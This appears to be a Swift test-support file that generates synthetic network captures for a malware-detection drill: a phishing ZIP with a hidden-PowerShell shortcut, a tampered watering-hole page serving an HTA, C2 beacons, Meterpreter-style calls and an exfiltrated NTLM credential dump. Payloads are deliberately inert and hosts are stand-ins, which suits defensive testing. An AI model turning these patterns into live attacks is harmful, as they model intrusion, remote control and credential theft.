import TestSupport

extension Scenario {
    /// A letter with a program in it, and pages that hand out programs.
    static var mailDrill: [Scenario] { [mailDelivery, mailCommune, wateringHole] }

    /// A shortcut in an archive. It names a host that does not exist.
    private static var invitation: [UInt8] {
        var zip = ZipBytes()
        zip.add(
            "giay-moi-hop.lnk",
            Payload.shortcut("powershell.exe", "-w hidden -c drill http://drill.invalid/inert.txt"))
        return zip.bytes
    }

    /// What the mail server sees: two letters with the archive, to two communes, between ordinary ones.
    private static var mailDelivery: Scenario {
        var day = DrillDay(port: 56001)
        let clean = ObjectRoad.letter(
            "lich-cong-tac.txt", "text/plain", Array("Lịch công tác tuần, không có gì đặc biệt.\n".utf8))
        let bad = ObjectRoad.letter("giay-moi-hop.zip", "application/zip", invitation)
        for second in [0, 25, 90, 130] {
            day.talk(at: second, "203.0.113.26", "198.51.100.25", 25) { $0.submit(clean) }
        }
        for second in [60, 75] {
            day.talk(at: second, "203.0.113.25", "198.51.100.25", 25) { $0.submit(bad) }
        }
        return Scenario("drills/mail-malware", day, file: "delivery.pcap")
    }

    /// What one commune sees: its one-stop desk fetches the letter, opens it, and answers to somebody else.
    private static var mailCommune: Scenario {
        var day = DrillDay(port: 56051)
        day.everyday(until: 330, pace: 14, seed: 56051, ["192.0.2.59", "192.0.2.60"])
        let desk = "192.0.2.58"
        let letter = ObjectRoad.letter("giay-moi-hop.zip", "application/zip", invitation)
        day.talk(at: 60, desk, "198.51.100.25", 143) { $0.fetchLetter(letter) }
        day.talk(at: 95, desk, "203.0.113.67", 8080) { talk in
            talk.client(sends: Text.request("GET", "/cap-nhat.bat", host: "capnhat-moi.example"))
            talk.server(sends: Text.response(Payload.powerShellBatch, type: "application/x-bat"))
        }
        day.talk(at: 150, desk, "203.0.113.91", 80) { talk in
            for _ in 0..<3 {
                talk.client(
                    sends: [
                        "POST /submit.php?id=56051 HTTP/1.1", "Accept: */*",
                        "Content-Type: application/octet-stream", "Host: 203.0.113.91", "Content-Length: 5",
                        "", "drill",
                    ].joined(separator: "\r\n"))
                talk.server(sends: Text.response("", type: "application/octet-stream"))
                talk.wait(seconds: 40)
            }
        }
        return Scenario("drills/mail-malware", day)
    }

    /// Two departments read a page that was tampered with; what it hands them opens two kinds of back door.
    private static var wateringHole: Scenario {
        var day = DrillDay(port: 56201)
        let machines = ["192.0.2.131", "192.0.2.146", "192.0.2.132", "192.0.2.148"]
        day.everyday(until: 1140, pace: 26, seed: 56201, machines)
        let site = "203.0.113.30"
        let health = "192.0.2.130"
        let works = "192.0.2.147"
        visit(site, health, at: 120, in: &day)
        day.web(
            at: 180, health, "203.0.113.67", 8080,
            asks: Text.request("GET", "/cap-nhat.ps1", host: "capnhat-moi.example"),
            gets: Text.response(Payload.powerShellSocket, type: "text/plain"))
        day.talk(at: 240, health, "203.0.113.90", 4444) { talk in
            for method in ["stdapi_sys_config_getuid", "stdapi_sys_config_sysinfo"] {
                talk.server(sends: Payload.remoteCall(method, isAnswer: false))
                talk.client(sends: Payload.remoteCall(method, isAnswer: true))
                talk.wait(seconds: 90)
            }
        }
        visit(site, works, at: 600, in: &day)
        day.talk(at: 690, works, "203.0.113.93", 5552) { talk in
            talk.client(sends: "38\0ll|'|" + "'|ZGllbiB0YXA=|'|'|MAY1|'|'|canbo|'|'|")
            talk.wait(seconds: 60)
        }
        day.talk(at: 960, health, "203.0.113.90", 4445) { talk in
            let sum = String(repeating: "d411", count: 8)
            talk.client(
                sends: "\t * Username : canbo\r\n\t * Domain   : DIENTAP\r\n\t * NTLM     : \(sum)\r\n")
        }
        return Scenario("drills/watering-hole", day)
    }

    /// The page of the association, and the application that it now offers. The words stand in comments, in an order
    /// in which they could not run.
    private static func visit(_ site: String, _ reader: String, at second: Int, in day: inout DrillDay) {
        let lines = [
            "<html><!-- dien tap -->", "<script language=\"VBScript\">",
            "' s.Run drill", "' t.SaveToFile drill", "' CreateObject(\"ADODB.Stream\")",
            "' CreateObject(\"MSXML2.XMLHTTP\")", "' CreateObject(\"WScript." + "Shell\")",
            "</script></html>",
        ]
        day.web(
            at: second, reader, site,
            asks: Text.request("GET", "/hoi-nghi/2026", host: "hoinghe.example"),
            gets: Text.response("<h1>Hội nghề mẫu</h1><a href=\"/dang-ky.hta\">Đăng ký dự hội nghị</a>"))
        day.web(
            at: second + 12, reader, site,
            asks: Text.request("GET", "/dang-ky.hta", host: "hoinghe.example"),
            gets: Text.response(Array(lines.joined(separator: "\r\n").utf8), type: "application/hta"))
    }
}
